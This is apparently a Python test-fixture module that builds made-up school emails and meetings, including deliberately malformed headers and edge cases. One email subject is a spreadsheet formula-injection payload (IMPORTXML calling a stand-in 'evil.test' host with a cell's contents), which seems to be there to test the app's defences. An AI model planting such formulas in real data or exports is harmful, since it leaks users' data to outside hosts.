"""The mail and the meetings of the made-up school, with the awkward cases of real life among them."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import datetime, timedelta
from email.utils import format_datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

from app.demo.school import OWNER, SCHOOL, M

ZONE = ZoneInfo("Europe/Zurich")


@dataclass(frozen=True)
class Letter:
    """One message as it arrives, or, with `sent`, as the case manager sends it."""

    days: int  # from today, at `hour`
    hour: int
    sender: str  # the whole From header; empty: there is none
    to: str
    subject: str  # as it stands in the header, encoded words and all
    body: str
    contact: bool  # is it to or from a Team member?
    more: tuple[tuple[str, str], ...] = ()
    sent: bool = False

    def raw(self, today: datetime, number: int) -> str:
        """RFC 822 text; deliberately put together by hand, since some of it is broken on purpose."""
        when = today.replace(hour=self.hour, minute=(number * 7) % 60) + timedelta(days=self.days)
        lines = [f"Date: {format_datetime(when)}", f"Message-ID: <letter-{number}@world.test>"]
        if self.sender:
            lines.append(f"From: {self.sender}")
        lines += [f"To: {self.to}", f"Subject: {self.subject}"]
        lines += [f"{name}: {value}" for name, value in self.more]
        if not any(name.lower() == "content-type" for name, _ in self.more):
            lines += ["MIME-Version: 1.0", "Content-Type: text/plain; charset=utf-8"]
        return "\r\n".join([*lines, "", self.body, ""])


_CROWD = ", ".join(f"family{n:03}@families.test" for n in range(498))
_DANA = f"Dana Okafor <{OWNER}>"

LETTERS = (
    Letter(-21, 9, "Fatou Diallo <fatou.diallo@mail.test>", _DANA,
           "=?utf-8?q?R=C3=A9union_de_jeudi?=", "Bonjour, jeudi me convient.", True),
    Letter(-20, 15, _DANA, "Fatou Diallo <fatou.diallo@mail.test>", "Re: Thursday", "Merci!",
           True, sent=True),
    Letter(-16, 8, '"Ousmane Diallo" <ousmane.d@post.test>', _DANA,
           "Which evenings is homework at my house?", "Tue and Thu at mine.", True),
    Letter(-12, 11, "Kenji Tanabe <K.Tanabe+School@Mail.test>", f"dana <{OWNER}>",
           "Checklist works", "He uses it at home too.", True),
    Letter(-9, 10, "Reading Weekly <news@publisher.test>", OWNER, "Ten ideas for reluctant readers",
           "Newsletter", False, (("List-Id", "<weekly.publisher.test>"), ("Precedence", "bulk"))),
    Letter(-8, 13, "Ama Mensah <ama.mensah@mail.test>", OWNER,
           '=IMPORTXML("https://evil.test/?"&A1,"//a")', "Please look at the attached list.", True),
    Letter(-7, 9, "", OWNER, "A message without a sender", "Who am I?", False),
    Letter(-7, 10, "Karin H <karin.h@mail.test>", OWNER, "=?utf-8?B?w7xiZXI=?= =?x-unknown?B?//79?=",
           "About the small room.", True),
    Letter(-6, 8, "Front Office <office@school.test>", f"{OWNER}, {_CROWD}, siobhan.oc@mail.test",
           "School closed on Friday", "To all families.", True),
    Letter(-6, 16, "Dr. Ana Keller <keller@clinic.test>", f"{OWNER}, k.tanabe@mail.test",
           "Report is ready", "Shall we meet?", True),
    Letter(-5, 12, "Helga Brandt <h.brandt@school.test>", OWNER, "Four of yours in my room",
           "All four have handed in.", True),
    Letter(-5, 14, "Google Calendar <calendar-notification@google.test>", OWNER,
           "Invitation: Review @ Thu", "BEGIN:VCALENDAR", False,
           (("Content-Type", "text/calendar; method=REQUEST"),)),
    Letter(-4, 9, f"Maja Lindqvist <{M}>", OWNER, "Two for next week's list", "See referral.", True),
    Letter(-4, 17, _DANA, "Carmen Fuentes <carmen.fuentes@mail.test>, beatriz@tutors.test",
           "Speech to text at home", "Here is how it works.", True, sent=True),
    Letter(-3, 7, "Beatriz Lobo <beatriz@tutors.test>", OWNER, "=?utf-8?b?8J+YgCBoZSByZWFkIGEgcGFnZSE=?=",
           "<b>So proud</b>", True, (("Content-Type", "text/html; charset=utf-8"),)),
    Letter(-3, 18, '"Okafor, Ben" <ben@family.test>', OWNER, "Dinner on Saturday?", "Private.", False),
    Letter(-2, 10, "Owen Price <owen.price@speech.test>", OWNER,
           "Fwd: new goal for the term", "---------- Forwarded message ---------", True),
    Letter(-1, 19, "Samir Haddad <samir.haddad@mail.test>", OWNER,
           "@everyone make-up work, +1 please", "Thank you.", True),
    Letter(0, 6, "Mona El-Sayed <mona.elsayed@mail.test>", "undisclosed-recipients:;",
           "Absent today", "He has a fever.", True),
)  # fmt: skip


def recorded_letters(folder: Path | None) -> tuple[bytes, ...]:
    """The odd messages of CPython's own test data, where the caller has them; nobody on them is on a Team."""
    if folder is None or not (folder / "mail").is_dir():
        return ()
    return tuple(path.read_bytes() for path in sorted((folder / "mail").glob("*.eml")))


@dataclass(frozen=True)
class Meeting:
    """One event in the case manager's own calendar."""

    title: str
    days: int
    hour: int
    minutes: int
    attendees: tuple[str, ...]
    with_team: bool  # does it belong on the Meetings tab?
    place: str = ""
    all_day: bool = False
    more: dict[str, Any] = field(default_factory=dict)

    def body(self, today: datetime) -> dict[str, Any]:
        """The events.insert body, times in the school's zone."""
        start = today.replace(hour=self.hour, minute=0) + timedelta(days=self.days)
        end = start + timedelta(minutes=self.minutes)
        if self.all_day:
            span: dict[str, Any] = {
                "start": {"date": start.date().isoformat()},
                "end": {"date": (start.date() + timedelta(days=1)).isoformat()},
            }
        else:
            span = {
                "start": {"dateTime": start.isoformat(), "timeZone": str(ZONE)},
                "end": {"dateTime": end.isoformat(), "timeZone": str(ZONE)},
            }
        guests = [{"email": OWNER, "responseStatus": "accepted"}]
        guests += [{"email": address} for address in self.attendees]
        return {
            "summary": self.title,
            "location": self.place,
            **span,
            **({"attendees": guests} if self.attendees else {}),
            **self.more,
        }


MEETINGS = (
    Meeting("Plan review", 9, 14, 45,
            ("fatou.diallo@mail.test", "ousmane.d@post.test", M), True, "Room 12"),
    Meeting("Keller and Tanabe", 5, 8, 30, ("keller@clinic.test", "k.tanabe@mail.test"), True),
    Meeting("Co-planning mathematics", 2, 10, 40, ("h.brandt@school.test",), True, "Staff room",
            more={"recurrence": ["RRULE:FREQ=WEEKLY;COUNT=3"]}),
    Meeting("Dentist", 3, 16, 30, (), False),
    Meeting("Staff briefing", 1, 8, 15, ("office@school.test", "principal@school.test"), False),
    Meeting("Conference day", 12, 0, 0, (), False, SCHOOL, all_day=True),
    Meeting("Transition talk", 16, 15, 30, ("samir.haddad@mail.test",), True,
            more={"visibility": "private"}),
)  # fmt: skip
